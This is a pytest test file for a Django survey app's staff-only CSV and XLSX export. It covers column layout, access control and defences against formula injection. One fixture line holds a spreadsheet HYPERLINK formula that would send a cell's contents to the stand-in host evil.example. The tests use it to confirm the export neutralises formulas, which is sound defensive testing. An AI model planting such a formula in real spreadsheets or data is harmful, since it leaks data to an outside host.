"""The staff export of a survey's responses: one row per response with a column per question, for German Excel,
formula-safe; for staff only."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from consultation.models import Channel
from tests.consultation.factories import EventFactory
from tests.consultation.survey_results_support import respond
from tests.consultation.survey_support import make_survey

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def download(client, survey, fmt):
    response = client.get(reverse("surveys:export", args=[survey.pk, fmt]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return response, content


def table(content: bytes, fmt: str) -> list[dict]:
    if fmt == "csv":
        assert content.startswith("\ufeff".encode())
        header, *body = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        header, *body = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.fixture
def survey(district):
    page = make_survey(consultation=None)
    event = EventFactory(consultation=page.get_parent().specific, title="Workshop Linden")
    respond(page, district=district, single=1, multiple=[2, 0], scale=4, ranking=[2, 0, 1], short="Verein X")
    respond(page, channel=Channel.PAPER, event=event, sheet="B-7", long=FORMULA)
    return page


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_one_row_per_response_with_a_column_per_question(staff, survey, district, fmt):
    _response, content = download(staff, survey, fmt)

    online, paper = table(content, fmt)
    assert online["Weg"] == "online" and online["Stadtbezirk"] == district.name
    assert online["F1 Wie oft nutzen Sie Beratungsangebote?"] == "Manchmal"
    assert online["F2 Welche Themen sind Ihnen wichtig?"] == "Sprache; Wohnen"  # in the question's order
    assert str(online["F3 Wie zufrieden sind Sie mit der Zusammenarbeit mit der Stadt?"]) == "4"
    assert online["F4 Was sollte zuerst kommen?"] == "1. Beratung; 2. Räume; 3. Geld"
    assert online["F5 Name Ihrer Organisation"] == "Verein X"
    assert paper["Veranstaltung"] == "Workshop Linden" and paper["Bogennummer"] == "B-7"
    assert paper["Weg"] == "Papierformular"


def test_csv_is_for_german_excel_and_a_formula_arrives_as_text(staff, survey):
    response, content = download(staff, survey, "csv")

    assert response["Content-Type"].startswith("text/csv")
    assert b";" in content.splitlines()[0]
    _online, paper = table(content, "csv")
    assert paper["F6 Was möchten Sie uns noch sagen?"] == "'" + FORMULA


def test_no_xlsx_cell_is_a_formula(staff, survey):
    _response, content = download(staff, survey, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    _online, paper = table(content, "xlsx")
    assert paper["F6 Was möchten Sie uns noch sagen?"] == FORMULA


@pytest.mark.parametrize(
    ("who", "location"), [("user", "account_login"), ("admin_without_rights", "wagtailadmin_home"), ("moderator", None)]
)
def test_only_staff_export(request, client_for, survey, who, location):
    client = client_for(request.getfixturevalue(who))

    response = client.get(reverse("surveys:export", args=[survey.pk, "csv"]))

    if location is None:
        assert response.status_code == 200
    else:  # sent to log in, or refused (Wagtail turns the 403 into a redirect to the dashboard)
        assert response.status_code == 302 and response["Location"].startswith(reverse(location))


def test_anonymous_people_are_sent_to_the_login(client, survey):
    response = client.get(reverse("surveys:export", args=[survey.pk, "csv"]))

    assert response.status_code == 302 and "login" in response["Location"]


@pytest.mark.parametrize("args", [(0, "csv"), (99999999, "csv"), (2**63, "xlsx")])
def test_unknown_surveys_are_404(staff, args):
    assert staff.get(reverse("surveys:export", args=args)).status_code == 404


def test_an_unknown_format_is_404(staff, survey):
    assert staff.get(reverse("surveys:export", args=[survey.pk, "pdf"])).status_code == 404
